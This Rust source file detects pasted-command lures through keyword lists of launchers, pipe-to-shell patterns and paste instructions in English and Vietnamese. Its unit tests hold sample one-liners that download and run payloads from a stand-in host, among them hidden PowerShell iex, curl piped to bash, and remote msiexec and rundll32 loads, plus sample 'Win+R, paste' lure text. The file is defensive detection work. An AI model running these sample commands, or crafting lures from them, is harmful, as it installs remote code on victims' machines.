//! Commands that a shell would run, and instructions to run them.

/// Programs that run what an address or a line holds.
const LAUNCHERS: &[&str] = &[
    "powershell",
    "pwsh",
    "mshta",
    "cmd.exe",
    "cmd /",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "msiexec",
    "certutil",
    "bitsadmin",
    "osascript",
    "bash -c",
    "sh -c",
    "conhost",
    "forfiles",
    "invoke-expression",
    "iex(",
    "iex ",
    "python -c",
    "python3 -c",
    "curl ",
    "wget ",
];
/// What such a line has besides: an address, a hidden window, encoded text, another program that gets it.
const LOADS: &[&str] = &[
    "http",
    "\\\\",
    "-enc",
    "-e ",
    "-ec ",
    "hidden",
    "-nop",
    "iex",
    "invoke",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| zsh",
    "/c ",
    "base64",
    "download",
    "start-process",
    "javascript:",
    "vbscript:",
];
/// Programs that only fetch: a line with them runs something if a shell gets what they fetched.
const FETCHERS: &[&str] = &["curl ", "wget "];
const SHELLS: &[&str] = &[
    "| sh", "|sh", "| bash", "|bash", "| zsh", "|zsh", "| sudo", "| iex", "|iex", "| python",
    "$(curl", "<(curl", "&& sh", "&& bash", "&& ./", "; sh ", "; bash ", ";sh ", "& start",
    "&& start", "chmod +x",
];
/// Longest command that is looked for, in bytes.
const LONGEST: usize = 8 << 10;

/// Whether a text is a command that fetches or hides something and runs it.
pub fn is_command(text: &str) -> bool {
    if text.len() < 8 || text.len() > LONGEST {
        return false;
    }
    let text = text.to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|it| text.contains(it));
    if has(SHELLS) && (has(FETCHERS) || has(LAUNCHERS)) {
        return true;
    }
    let launcher = LAUNCHERS.iter().any(|it| {
        !FETCHERS.contains(it) && text.match_indices(it).any(|(at, _)| begins(&text[..at]))
    });
    launcher && has(LOADS)
}

/// Whether a word may begin after `before`: `aiex` is not `iex`.
fn begins(before: &str) -> bool {
    !before.ends_with(|it: char| it.is_alphanumeric())
}

/// Where a command is pasted to, without blanks.
const PROMPTS: &[&str] = &[
    "windows+r",
    "win+r",
    "⊞+r",
    "windows+x",
    "win+x",
    "windowsr",
    "phímwindows",
    "powershell",
    "terminal",
    "commandprompt",
    "hộpthoạirun",
    "cửasổrun",
    "cửasổlệnh",
    "dònglệnh",
    "runbox",
    "rundialog",
    "f12",
    "command+space",
    "cmd+space",
    "⌘+space",
    "thanhđịachỉcủatrìnhquảnlýtệp",
    "fileexplorer",
];
const PASTES: &[&str] = &[
    "ctrl+v",
    "ctrlv",
    "control+v",
    "cmd+v",
    "command+v",
    "⌘+v",
    "⌘v",
    "dán",
    "paste",
];

/// Whether texts instruct a reader to paste something where commands are run.
pub fn tells_to_paste<'t>(texts: impl Iterator<Item = &'t str>) -> bool {
    let (mut prompt, mut pastes) = (false, false);
    for text in texts {
        let bare: String = text
            .chars()
            .filter(|it| !it.is_whitespace() && !"-–_\"'“”()[]".contains(*it))
            .flat_map(char::to_lowercase)
            .collect();
        prompt |= PROMPTS.iter().any(|it| bare.contains(it));
        pastes |= PASTES.iter().any(|it| bare.contains(it));
    }
    prompt && pastes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_from_talk_of_them() {
        for text in [
            r#"powershell -w hidden -c "iex (iwr https://a.example/x)""#,
            "mshta https://a.example/x.hta",
            "cmd /c start /min curl https://a.example/x -o %tmp%\\x.exe && start %tmp%\\x.exe",
            "curl -fsSL https://a.example/i | bash",
            "/bin/bash -c \"$(curl -fsSL https://a.example/i)\"",
            "rundll32.exe \\\\a.example@ssl\\x\\y.dll,z",
            "msiexec /i https://a.example/x.msi /qn",
        ] {
            assert!(is_command(text), "{text}");
        }
        for text in [
            "12/2026/QĐ-UBND",
            "https://portal.example.gov.vn/tin/1",
            "curl https://api.example.gov.vn/v1/du-lieu?dinh-dang=json",
            "Hướng dẫn dùng PowerShell cho quản trị viên",
            "certmgr.msc",
            "spiex hiddenfield",
        ] {
            assert!(!is_command(text), "{text}");
        }
    }

    #[test]
    fn instructions_name_prompt_and_paste() {
        let tells = |text| tells_to_paste([text].into_iter());
        assert!(tells("Nhấn Windows + R, nhấn Ctrl + V rồi Enter"));
        assert!(tells("Press Win+R. Paste, press Enter"));
        assert!(!tells("nhấn Windows + R, gõ certmgr.msc rồi nhấn Enter"));
        assert!(!tells("Bấm Ctrl + V để đính kèm ảnh"));
    }
}
